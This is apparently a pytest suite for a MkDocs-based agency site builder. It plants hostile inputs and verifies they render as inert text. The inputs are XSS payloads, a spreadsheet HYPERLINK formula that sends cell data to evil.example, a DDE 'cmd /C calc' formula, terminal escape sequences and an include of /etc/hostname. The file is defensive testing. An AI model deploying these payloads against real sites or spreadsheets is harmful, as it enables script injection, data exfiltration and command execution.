    _edit(root, f"{NOEL}/metrics.csv", "\nn01,", "\n-2+3,")
    return f"{NOEL}/metrics.csv", 2, "schema.value"


# --- ambiguous amounts ---------------------------------------------------------------------------

@refused
def fee_written_the_french_way(root: Path) -> Expected:
    path = f"{PRINTEMPS}/contracts/chloe-marin.yml"
    _edit(root, path, "fee: 2600", "fee: 2.600")
    return path, 3, "number.ambiguous"


@refused
def budget_with_a_comma_for_thousands(root: Path) -> Expected:
    _edit(root, f"{PRINTEMPS}/brief.md", "budget: 22000", "budget: 22,000")
    return f"{PRINTEMPS}/brief.md", _line(root, f"{PRINTEMPS}/brief.md", "budget:"), "number.ambiguous"


@refused
def rate_card_amount_of_three_decimals(root: Path) -> Expected:
    _edit(root, LEA, "  reel: 1600", "  reel: 1.600")
    return LEA, _line(root, LEA, "  reel: 1.600"), "number.ambiguous"


@refused
def metrics_cell_read_two_ways(root: Path) -> Expected:
    _edit(root, f"{PRINTEMPS}/metrics.csv", ",828.20,", ",\"1,200\",")
    return f"{PRINTEMPS}/metrics.csv", 2, "number.ambiguous"


# --- canaries: internal fields, and files no site publishes --------------------------------------

@builds
def canaries_in_internal_fields(root: Path) -> None:
    _edit(root, LEA, "notes: >-\n  Très fiable", f"notes: >-\n  {INTERNAL} Très fiable")
    _edit(root, f"{PRINTEMPS}/brief.md", "notes: >-\n  Stock initial", f"notes: >-\n  {INTERNAL} Stock initial")
    _edit(root, f"{NOEL}/contracts/hugo-benoit.yml", "payment_terms: ", f"payment_terms: {INTERNAL} ")
    _edit(root, HUGO, "    summary: ", f"    summary: {INTERNAL} ")


@builds
def stray_file_in_content(root: Path) -> None:
    _write(root, f"{NOEL}/notes-internes.txt", f"Marge réelle : {SECRET}\n")
    _write(root, "content/assets/contrat.pdf.txt", f"{SECRET}\n")


# Cases that show a hole: each is reported, and marked so that the suite stays green until the
# hole is closed (strict: the day it is, the mark must go).
KNOWN_HOLES: dict[str, str] = {}


# === refused ======================================================================================

def _errors(root: Path) -> set[Expected]:
    _, problems = check_workspace(root)
    return {(p.location.path, p.location.line, p.code) for p in problems if p.severity == "error"}


@pytest.fixture(scope="module")
def demo_errors(tmp_path_factory: pytest.TempPathFactory) -> set[Expected]:
    """The demo's own errors (a compliance finding it shows on purpose): a case's are the others."""
    return _errors(copy_demo(tmp_path_factory.mktemp("demo") / "demo"))


@pytest.mark.parametrize("name", [
    pytest.param(name, marks=pytest.mark.xfail(strict=True, raises=AssertionError, reason=KNOWN_HOLES[name]))
    if name in KNOWN_HOLES else name for name in sorted(REFUSED)])
def test_refused(name: str, tmp_path: Path, demo_errors: set[Expected], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", DEMO_EPOCH)
    root = copy_demo(tmp_path / "demo")
    expected = REFUSED[name](root)
    found = _errors(root) - demo_errors
    if expected[2] == ANY_CODE:
        found = {(path, line, ANY_CODE) for path, line, _ in found}
    assert expected in found, sorted(found)
    result = build(root)
    assert not result.ok
    assert not (root / "site").exists()


def test_check_prints_no_control_character_of_the_workspace(tmp_path: Path) -> None:
    """What `check` prints quotes the workspace: a cell holding an escape sequence must not drive the
    account manager's terminal."""
    from pressbook.problems import FORMATTERS

    root = copy_demo(tmp_path / "demo")
    _edit(root, f"{NOEL}/posts.csv", "\nn01,", "\nn01\x1b]0;pressbook: no problems found\x07\x1b[2K\r,")
    _edit(root, f"{NOEL}/posts.csv", "\nn02,", "\nn02\x1b[8m,")
    _, problems = check_workspace(root)
    assert [p for p in problems if p.location.path == f"{NOEL}/posts.csv" and p.location.line == 2]
    for output, formatter in FORMATTERS.items():
        shown = formatter(problems)
        assert not [c for c in shown if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160], output


def test_the_corpus_is_large_enough() -> None:
    assert len(REFUSED) + len(BUILDS) >= 40


# === builds =======================================================================================

@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_demo(tmp_path_factory.mktemp("hostile") / "demo")
    for case in BUILDS.values():
        case(root)
    build_on_demo_day(root)
    return root


def _sites(root: Path) -> list[Path]:
    return sorted(p for p in (root / "site").iterdir() if p.is_dir())


def test_every_site_is_built(hostile_root: Path) -> None:
    assert [p.name for p in _sites(hostile_root)] == [
        "client-chocolaterie-belleroche", "client-herbier-de-lure", "client-velonde", "internal", "public"]


def test_what_builds_is_still_said_at_its_place(hostile_root: Path) -> None:
    """A stray file, a label pressbook does not have, a CSV read as cp1252: warnings at their file,
    not errors, and not silence."""
    _, problems = check_workspace(hostile_root)
    warnings = {(p.location.path, p.location.line, p.code) for p in problems if p.severity == "warning"}
    assert {("themes/labels.yml", 2, "theme.label"),
            ("themes/assets/contrat.txt", 1, "theme.unpublished"),
            ("themes/assets/notes.md", 1, "theme.unpublished"),
            ("themes/overrides/partials/tarifs.csv", 1, "theme.unpublished"),
            (f"{NOEL}/notes-internes.txt", 1, "file.unexpected"),
            (f"{PRINTEMPS}/mentions.csv", 1, "file.encoding-guessed")} <= warnings
    config = (hostile_root / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
    assert {("mkdocs.yml", config.index(key) + 1, "mkdocs.overruled")
            for key in ("  font:", "  analytics:", "  social:", "hooks:", "plugins:", "markdown_extensions:")
            } <= warnings


def test_no_hook_of_the_workspace_ran(hostile_root: Path) -> None:
    assert not (hostile_root / "HOOK-RAN").exists()


# What the "builds" cases wrote, shown as typed: markup and template syntax in names and text are text.
SHOWN = [
    ("internal", "influencers/noe-garnier.html", "Noé Garnier 👨\u200d🍳"),
    ("internal", "index.html", "Sillage <script>alert('agence')</script> & \"Co\" {{ 7*7 }}"),
    ("internal", "index.html", "<a href=javascript:alert('copyright')>©</a> Sillage"),
    ("internal", "index.html", "Carnet <img src=x onerror=alert('label')>"),
    ("client-velonde", "index.html", "Vélonde \"><img src=x onerror=alert('client')> 'quote'"),
    ("internal", "clients/velonde.html", "Nadia <b onmouseover=alert('contact')>Ferrand</b>"),
    ("internal", "influencers/hugo-benoit.html", "Hugo Benoît</title><script>alert('influencer')</script>"),
    ("client-chocolaterie-belleroche", "campaigns/noel-gourmand-2026/index.html",
     "Noël' onmouseover='alert(1)' \" x=\" <i>gourmand</i>"),
    ("public", "case-studies/printemps-eclat-2026.html", "<svg onload=alert('headline')></svg> Éclat de printemps"),
    ("public", "case-studies/printemps-eclat-2026.html", "__config {: #__config }"),
    ("client-herbier-de-lure", "campaigns/printemps-eclat-2026/report.html",
     "Un paragraphe avec du code {: #__config }"),
    ("client-herbier-de-lure", "influencers/lea-fontaine.html", "<script>alert('raw')</script>"),
    ("client-velonde", "campaigns/rentree-velotaf-2026/index.html",
     "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>"),
    ("client-chocolaterie-belleroche", "campaigns/noel-gourmand-2026/posts.html",
     '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'),
    ("internal", "campaigns/printemps-eclat-2026/posts.html", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("internal", "campaigns/rentree-velotaf-2026/posts.html", "Meylan, crème brûlée sous la pluie"),
    ("internal", "influencers/hugo-benoit.html", "Texte <script>alert('entity')</script> en entités."),
    ("internal", "influencers/lea-fontaine.html", "Notes <svg onload=alert('heading')>"),
    # (The report is a draft: the client's site does not show its text.)
    ("internal", "campaigns/rentree-velotaf-2026/report.html", '--8<-- "/etc/hostname"'),
    ("client-herbier-de-lure", "campaigns/printemps-eclat-2026/index.html", "#<img src=x onerror=alert('hashtag')>"),
    ("client-herbier-de-lure", "campaigns/printemps-eclat-2026/index.html",
     "@x\"><script>alert('mention')</script>"),
    ("internal", "influencers/lea-fontaine.html", "lea<script>alert('handle')</script>"),
    ("internal", "influencers/lea-fontaine.html", "<img src=x onerror=alert('topic')>"),
    ("public", "case-studies/printemps-eclat-2026.html", "<b onclick=alert('author')>Hélène</b>"),
]


def _text(page: Path) -> str:
    from selectolax.lexbor import LexborHTMLParser

    tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
    shown = " ".join(node.text(separator=" ") for node in (tree.css_first("title"), tree.body) if node)
    return " ".join(shown.split())


@pytest.mark.parametrize("site, page, text", SHOWN, ids=[f"{s}/{p}:{t[:24]}" for s, p, t in SHOWN])
def test_what_the_cases_wrote_is_shown_as_text(hostile_root: Path, site: str, page: str, text: str) -> None:
    assert " ".join(text.split()) in _text(hostile_root / "site" / site / page)


# Names in the theme's attributes, as the browser reads them: the same text, not markup.
ATTRIBUTES = [
    ("internal", "index.html", 'meta[name="description"]', "content", "\"><script>alert('description')</script>"),
    ("client-velonde", "index.html", 'meta[name="description"]', "content",
     "\"><script>alert('description')</script>"),
    ("public", "case-studies/printemps-eclat-2026.html", 'meta[property="og:title"]', "content",
     "<svg onload=alert('headline')></svg> Éclat de printemps : comment un sérum artisanal de Haute-Provence a "
     "conquis TikTok et YouTube"),
]


@pytest.mark.parametrize("site, page, selector, attribute, value", ATTRIBUTES)
def test_names_in_attributes_are_the_text_as_typed(hostile_root: Path, site: str, page: str, selector: str,
                                                   attribute: str, value: str) -> None:
    from selectolax.lexbor import LexborHTMLParser

    tree = LexborHTMLParser((hostile_root / "site" / site / page).read_text(encoding="utf-8"))
    assert [node.attributes.get(attribute) for node in tree.css(selector)] == [value]


def test_no_page_shows_mojibake(hostile_root: Path) -> None:
    # 'è' read as cp1252 from UTF-8 bytes shows as 'Ã¨': the cp1252 files were read as what they are.
    pages = [page for site in _sites(hostile_root) for page in site.rglob("*.html")]
    assert not [page for page in pages if "Ã" in page.read_text(encoding="utf-8")]


def test_canaries_on_disk(hostile_root: Path) -> None:
    """Every file of every site (pages, search index, sitemap, charts), and what MkDocs was given."""
    for site in _sites(hostile_root):
        every = [(p, p.read_bytes()) for p in site.rglob("*") if p.is_file()]
        assert not [p for p, data in every if SECRET.encode() in data]
        holding = [p for p, data in every if INTERNAL.encode() in data]
        assert bool(holding) == (site.name == "internal"), holding[:5]
    cache = hostile_root / ".cache"
    assert not [p for p in cache.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]


@pytest.mark.parametrize("output", ["csv", "json", "csv-fr", "xlsx"])
def test_exports_hold_no_text_a_spreadsheet_could_run(hostile_root: Path, tmp_path: Path, output: str,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """`pressbook export` writes ids, names of metrics and numbers, never captions or names: no cell
    starts a formula (=, +, @, or - but for a negative number), and the captions' formulas are not
    there. A workbook holds no formula at all, and its text cells are strings."""
    import zipfile

    import openpyxl
    from pressbook.build import export_site

    monkeypatch.setenv("SOURCE_DATE_EPOCH", DEMO_EPOCH)
    cells: list[str] = []
    for site in _sites(hostile_root):
        _, written = export_site(hostile_root, site.name, tmp_path / site.name, output)
        assert written
        for path in written:
            if output == "xlsx":
                with zipfile.ZipFile(path) as archive:
                    text = "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist())
                assert "<f>" not in text and "<f " not in text
                book = openpyxl.load_workbook(path)
                assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
                cells += [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
                          if isinstance(cell.value, str)]
            else:
                text = path.read_text(encoding="utf-8-sig")
            assert "HYPERLINK" not in text and "SUM(" not in text and INTERNAL not in text, path
            if output in ("csv", "csv-fr"):
                dialect = {"delimiter": ";"} if output == "csv-fr" else {}
                cells += [cell for row in csv.reader(io.StringIO(text), **dialect) for cell in row]
            elif output == "json":
                cells += [str(value) for row in json.loads(text) for value in row.values()
                          if isinstance(value, str)]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell.replace(",", "."))  # a negative number, which a spreadsheet reads as one


# --- in Chromium -----------------------------------------------------------------------------------

# Run through the debugging protocol (page.evaluate), which the pages' policy does not govern.
_INSPECT = """([internal, secret]) => {
  const ids = Array.from(document.querySelectorAll('[id^="__"]')).map(e => e.id);
  const article = 'article.md-content__inner';
  const bidi = /[\\u202a-\\u202e\\u2066-\\u2069]/;
  const unisolated = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!bidi.test(node.data) || node.parentElement.closest('script, style, template')) continue;
    // Text of a field is isolated in a <bdi> of its own. Authored Markdown's blocks (a paragraph, a
    // list item, a cell) are isolated as browsers isolate every block: a control reorders at most
    // the rest of its block, which its author wrote. Anything else is not isolated: the body or the
    // article isolate too, but what stands beside the text there is the page's.
    const block = node.parentElement.closest(['p', 'li', 'td', 'th', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote']
                                             .map(tag => '.pb-text ' + tag).join(', '));
    // A search result shows the index's text, without tags: there a field's controls must be closed
    // where its text ends, every embedding and isolate it opens (closers with nothing open are ignored).
    const closed = (text) => { let embeddings = 0, isolates = 0;
      for (const c of text) { if ('\u202a\u202b\u202d\u202e'.includes(c)) embeddings++;
        else if (c === '\u202c') embeddings = Math.max(0, embeddings - 1);
        else if ('\u2066\u2067\u2068'.includes(c)) { isolates++; }
        else if (c === '\u2069') { isolates = Math.max(0, isolates - 1); } }
      return embeddings === 0 && isolates === 0; };
    const inResult = node.parentElement.closest('.md-search-result');
    if (!node.parentElement.closest('bdi') && !(block && getComputedStyle(block).unicodeBidi === 'isolate')
        && !(inResult && closed(node.data)))
      unisolated.push(node.data.slice(0, 60));
  }
  const html = document.documentElement.outerHTML;
  return {
    reservedInside: Array.from(document.querySelectorAll(
      `${article}[id^="__"], ${article} [id^="__"], ${article} [name^="__"]`)).map(e => e.id || e.name),
    reservedTwice: ids.filter((id, i) => ids.indexOf(id) !== i),
    handlers: Array.from(document.querySelectorAll('*')).flatMap(e => Array.from(e.attributes))
      .filter(a => a.name.startsWith('on')).map(a => a.name),
    // An address that runs script when followed, as the browser resolves it (entities, case, spaces).
    scriptUrls: Array.from(document.querySelectorAll(
      'a[href], area[href], iframe[src], form[action], button[formaction], object[data], embed[src], img[src], ' +
      'script[src], link[href], source[src]')).map(e => e.getAttribute(e.hasAttribute('href') ? 'href' :
        e.hasAttribute('src') ? 'src' : e.hasAttribute('action') ? 'action' : e.hasAttribute('data') ? 'data' :
        'formaction'))
      .filter(value => { try { return /^(javascript|vbscript|data):/.test(new URL(value, document.baseURI).protocol)
                                      && !value.startsWith('data:image/'); } catch (e) { return false; } }),
    // A tooltip shows a title attribute, which is text: no element of it may come from that text.
    tooltipMarkup: Array.from(document.querySelectorAll('.md-tooltip__inner *')).map(e => e.tagName),
    unisolated,
    internal: html.includes(internal),
    secret: html.includes(secret),
  };
}"""
_WORKERS = 3  # pages loading at once: Chromium's renderers wait on files and scripts as much as on cores
# Pages whose links' titles hold names: the site's name and the client's in the logo's, an
# authored link's title breaking out of its quotes.
_HOVERED = ("client-velonde/index.html", "client-velonde/campaigns/rentree-velotaf-2026/index.html",
            "internal/influencers/hugo-benoit.html")
# Words whose results show a hostile name: Hugo's, the client's, the headline's.
_SEARCHED = {"internal": "Benoît", "client-velonde": "Vélonde", "public": "printemps"}


class _Seen:
    def __init__(self) -> None:
        self.pages = 0
        self.dialogs: list[tuple[str, str]] = []
        self.outside: list[tuple[str, str]] = []  # (page, request)
        self.findings: list[tuple[str, str, object]] = []
        self.internal_pages = 0
        self.searched: list[str] = []
        self.hovered: list[str] = []


async def _load_every_page(sites: list[Path]) -> _Seen:
    from playwright.async_api import async_playwright

    seen = _Seen()
    queue = [(site, path) for site in sites for path in sorted(site.rglob("*.html"))]

    async def worker(context) -> None:
        page = await context.new_page()
        at = {"page": "", "folder": ""}

        def inside(url: str) -> bool:
            parsed = urlparse(url)
            return (parsed.scheme in ("data", "blob", "about") or
                    parsed.scheme == "file" and unquote(parsed.path).startswith(at["folder"]))

        async def dialog(d) -> None:
            seen.dialogs.append((at["page"], d.message))
            await d.dismiss()

        async def route(r) -> None:
            if inside(r.request.url):
                await r.continue_()
            else:
                seen.outside.append((at["page"], r.request.url))
                await r.abort()

        # A request the route may not see (a worker's) is recorded all the same.
        page.on("request", lambda r: None if inside(r.url) else seen.outside.append((at["page"], r.url)))
        page.on("dialog", dialog)
        await page.route("**/*", route)

        async def inspect(site: Path, phase: str = "") -> None:
            found = await page.evaluate(_INSPECT, [INTERNAL, SECRET])
            for key in ("reservedInside", "reservedTwice", "handlers", "scriptUrls", "unisolated",
                        "tooltipMarkup"):
                if found[key]:
                    seen.findings.append((at["page"], phase + key, found[key]))
            if found["secret"] or (found["internal"] and site.name != "internal"):
                seen.findings.append((at["page"], "canary", found))
            seen.internal_pages += found["internal"] and site.name == "internal"

        while queue:
            site, path = queue.pop()
            at["page"], at["folder"] = f"{site.name}/{path.relative_to(site).as_posix()}", f"{site.resolve()}/"
            await page.goto(path.resolve().as_uri(), wait_until="load", timeout=20000)
            await page.wait_for_timeout(20)  # a handler bound to load or to an image's error has run by now
            await inspect(site)
            seen.pages += 1
            if at["page"] in _HOVERED:
                # Material shows a link's title in a tooltip when the pointer rests on it.
                links = page.locator("a.md-header__button.md-logo, article a[title]")
                for number in range(await links.count()):
                    if await links.nth(number).is_visible():
                        await links.nth(number).hover(timeout=5000)
                        await page.wait_for_timeout(300)
                        await inspect(site, "hover:")  # while its tooltip shows: the next hover hides it
                seen.hovered.append(at["page"])
            words = _SEARCHED.get(site.name) if path.relative_to(site).as_posix() == "index.html" else None
            if words:
                # The search renders results from the site's index, which holds the hostile text.
                await page.click("label.md-search__icon, .md-search__input")
                # Queries typed while the index is still loading are dropped, as a reader would see.
                await page.wait_for_selector(".md-search-result__meta:has-text('Taper pour démarrer la recherche')",
                                             timeout=15000)
                await page.locator("input.md-search__input").press_sequentially(words, delay=20)
                await page.wait_for_selector(".md-search-result__item", timeout=15000)
                await page.wait_for_timeout(100)
                await inspect(site, "search:")
                seen.searched.append(site.name)
        await page.close()

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS, headless=True)
        context = await browser.new_context()
        try:
            await asyncio.gather(*(worker(context) for _ in range(_WORKERS)))
        finally:
            await browser.close()
    return seen


def _in_chromium(sites: list[Path]) -> _Seen:
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail("CI must run the browser tests: apt-get install -y chromium")
        pytest.skip("Debian's chromium is not installed (apt-get install -y chromium)")
    # Playwright's asynchronous API, in a thread of its own: apart from any synchronous one the
    # session's other browser tests keep open in this thread.
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, _load_every_page(sites)).result()


@pytest.fixture(scope="module")
def in_chromium(hostile_root: Path) -> _Seen:
    return _in_chromium(_sites(hostile_root))


@pytest.mark.browser
def test_the_inspection_sees_what_it_looks_for(tmp_path: Path) -> None:
    """The control: a page made by hand with each thing the corpus must never make, each seen."""
    site = tmp_path / "client-x"
    (site / "sub").mkdir(parents=True)
    (tmp_path / "outside.png").write_bytes(b"")
    (site / "sub" / "index.html").write_text(
        "<!doctype html><html><head><meta charset=utf-8><title>t</title></head><body>"
        f"<article class='md-content__inner'><p id='__config'>x</p><p>\u202eabc</p>{INTERNAL}"
        "<img src='http://evil.example/p.png'><img src='../../outside.png'><b onclick='x()'>b</b>"
        "<a href=' JaVa&#x09;script:x()'>a</a></article>"
        "<div id='__twice'></div><div id='__twice'></div><script>alert('ran')</script></body></html>",
        encoding="utf-8")
    seen = _in_chromium([site])
    assert seen.dialogs == [("client-x/sub/index.html", "ran")]
    assert sorted({request.rsplit("/", 1)[1] for _, request in seen.outside}) == ["outside.png", "p.png"]
    assert sorted(key for _, key, _ in seen.findings) == ["canary", "handlers", "reservedInside", "reservedTwice",
                                                          "scriptUrls", "unisolated"]


@pytest.mark.browser
def test_every_page_of_every_site_is_inert_in_chromium(in_chromium: _Seen) -> None:
    seen = in_chromium
    assert seen.pages > 100 and sorted(seen.searched) == sorted(_SEARCHED)
    assert seen.dialogs == []
    outside = sorted(set(seen.outside))  # 404.html too: it is made relative, as the home page
    assert outside == [], "\n".join(map(str, outside))
    assert sorted(seen.hovered) == sorted(_HOVERED)
    findings = seen.findings
    assert findings == [], "\n".join(map(str, findings))
    assert seen.internal_pages >= 5  # the positive control: the internal site shows what it must


@pytest.mark.browser
def test_search_results_isolate_the_bidi_controls_of_free_text(in_chromium: _Seen) -> None:
    assert [finding for finding in in_chromium.findings if finding[1] == "search:unisolated"] == []


@pytest.mark.browser
def test_tooltips_show_names_as_text(in_chromium: _Seen) -> None:
    assert [finding for finding in in_chromium.findings if finding[1].startswith("hover:")] == []
